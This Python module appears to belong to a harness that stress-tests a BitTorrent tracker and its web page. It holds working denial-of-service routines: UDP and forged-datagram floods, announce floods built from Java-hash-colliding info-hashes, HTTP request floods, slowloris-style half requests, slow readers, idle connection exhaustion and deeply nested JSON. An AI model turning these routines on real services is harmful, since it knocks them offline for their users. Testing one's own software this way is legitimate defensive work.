"""Attacks on the tracker and its catalogue, and on the page by programs of this computer. An attack is a function of a Scene and a number of seconds."""
import os
import socket
import struct
import subprocess
import threading
import time
import urllib.error
import urllib.request

import wire

UDP_MAGIC = 0x41727101980


def datagrams(scene, seconds, kind):
    """Up to 200,000 datagrams a second from each of two addresses in turn (flood.c)."""
    command = [scene.flood, *scene.tracker_text, kind, str(seconds), "200000", scene.enemies[0]]
    return subprocess.run(command, capture_output=True, text=True, check=False).stdout.strip()


def junk_datagrams(scene, seconds):
    return datagrams(scene, seconds, "junk")


def connect_datagrams(scene, seconds):
    return datagrams(scene, seconds, "connect")


def forged_datagrams(scene, seconds):
    return datagrams(scene, seconds, "forged")


class Announcer:
    """Announces over UDP with a connection id of its own (BEP 15)."""

    def __init__(self, scene, source):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((source, 0))
        self.socket.connect(scene.tracker)
        self.socket.settimeout(1)
        self.id = None

    def meet(self):
        self.socket.send(struct.pack(">QII", UDP_MAGIC, 0, 1))
        answer = self.socket.recv(64)
        self.id = answer[8:16]

    def announce(self, info_hash, number):
        peer = b"-XX0001-" + struct.pack(">QI", number, 0)
        self.socket.send(
            self.id + struct.pack(">II", 1, number & 0xFFFFFFFF) + info_hash + peer
            + struct.pack(">QQQIIIiH", 0, 1000, 0, 2, 0, number & 0xFFFFFFFF, 0, 1025 + number % 60000)
        )  # fmt: skip


def announces(scene, seconds, hash_of):
    """Announces of made-up torrents, at most 2,000 unanswered at a time."""
    until, count = time.monotonic() + seconds, 0
    announcers = [Announcer(scene, source) for source in scene.enemies]
    for announcer in announcers:
        try:
            announcer.meet()
        except OSError:
            return "the tracker does not answer"
        announcer.socket.setblocking(False)
    while time.monotonic() < until:
        for announcer in announcers:
            for _ in range(50):
                announcer.announce(hash_of(count), count)
                count += 1
            try:
                while True:
                    announcer.socket.recv(2048)
            except OSError:
                pass
        time.sleep(0.005)
    return f"{count} announces"


def colliding_hashes(scene, seconds):
    """Info-hashes that are alike to a polynomial of 31, as Java's arrays have it: 31 a + b stays the same."""

    def colliding(number):
        pairs = bytearray()
        for _ in range(10):
            number, step = divmod(number, 5)
            pairs += bytes([step, 124 - 31 * step])
        return bytes(pairs)

    return announces(scene, seconds, colliding)


def made_up_swarms(scene, seconds):
    return announces(scene, seconds, lambda number: struct.pack(">Q", number) + bytes(12))


def one_crowded_swarm(scene, seconds):
    return announces(scene, seconds, lambda _: b"crowdedcrowdedcrowde")


def requests(target, method, path, seconds, threads, body=None, kind="application/x-bittorrent"):
    """The same request over and over by that many threads."""
    until, done, failed = time.monotonic() + seconds, [0], [0]

    def ask():
        while time.monotonic() < until:
            data = body() if callable(body) else body
            request = urllib.request.Request(f"http://{target[0]}:{target[1]}{path}", data, {"Content-Type": kind}, method=method)
            try:
                with urllib.request.urlopen(request, timeout=10) as answer:
                    answer.read()
                done[0] += 1
            except (OSError, urllib.error.URLError):
                failed[0] += 1

    workers = [threading.Thread(target=ask, daemon=True) for _ in range(threads)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(seconds + 15)
    return f"{done[0]} answered, {failed[0]} refused or failed"


def dear_details(scene, seconds):
    """The details of a .torrent with as many values as are taken."""
    return requests(scene.tracker, "GET", f"/api/torrents/{scene.dear_hash}", seconds, 40)


def long_searches(scene, seconds):
    return requests(scene.tracker, "GET", "/api/search?q=a+b+c+d+e+f+g+h", seconds, 20)


def publishing(scene, seconds):
    body = lambda: wire.published("made up " + os.urandom(8).hex())  # noqa: E731
    return requests(scene.tracker, "POST", "/api/publish", seconds, 8, body)


def large_publishing(scene, seconds):
    return requests(scene.tracker, "POST", "/api/publish", seconds, 40, lambda: wire.published(os.urandom(8).hex(), values=2_000_000))


def slow_readers(scene, seconds):
    """Asks for a large .torrent and reads none of it."""
    asked = f"GET /api/torrents/{scene.large_hash}.torrent HTTP/1.1\r\nHost: {scene.tracker[0]}:{scene.tracker[1]}\r\n\r\n".encode()
    return wire.Crowd(scene.tracker, scene.enemies, 150, lambda: asked, reads=False, receive_buffer=2304).run(seconds)


def half_requests(scene, seconds):
    """Heads of requests that never end, a byte at a time."""
    crowd = wire.Crowd(scene.tracker, scene.enemies, 1000, lambda: b"GET /announce?info_hash=", receive_buffer=2304)
    return crowd.run(seconds, b"a", pause=0.5)


def idle_at_tracker(scene, seconds):
    return wire.Crowd(scene.tracker, scene.enemies, 1000).run(seconds)


def scrapes(scene, seconds):
    hashes = "&".join("info_hash=" + "%41" * 19 + f"%{i:02x}" for i in range(60))
    return requests(scene.tracker, "GET", "/scrape?" + hashes, seconds, 20)


ATTACKS = [
    junk_datagrams, connect_datagrams, forged_datagrams, colliding_hashes, made_up_swarms, one_crowded_swarm, dear_details, long_searches, publishing,
    large_publishing, slow_readers, half_requests, idle_at_tracker, scrapes,
]  # fmt: skip


def idle_at_page(scene, seconds):
    return wire.Crowd(scene.page, ["127.0.0.1"], 700).run(seconds)


def half_requests_at_page(scene, seconds):
    return wire.Crowd(scene.page, ["127.0.0.1"], 700, lambda: b"GET / HTTP/1.1\r\nHost: ").run(seconds, b"a", pause=0.5)


def event_streams(scene, seconds):
    asked = f"GET /api/events HTTP/1.1\r\nHost: localhost:{scene.page[1]}\r\n\r\n".encode()
    return wire.Crowd(scene.page, ["127.0.0.1"], 300, lambda: asked, reads=False, receive_buffer=2304).run(seconds)


def deep_json(scene, seconds):
    deep = b'{"order":' + b"[" * 8000 + b"]" * 8000 + b"}"
    return requests(scene.page, "POST", "/api/queue", seconds, 8, deep, "application/json")


# These run on the daemon's own host.
LOCAL_ATTACKS = [idle_at_page, half_requests_at_page, event_streams, deep_json]
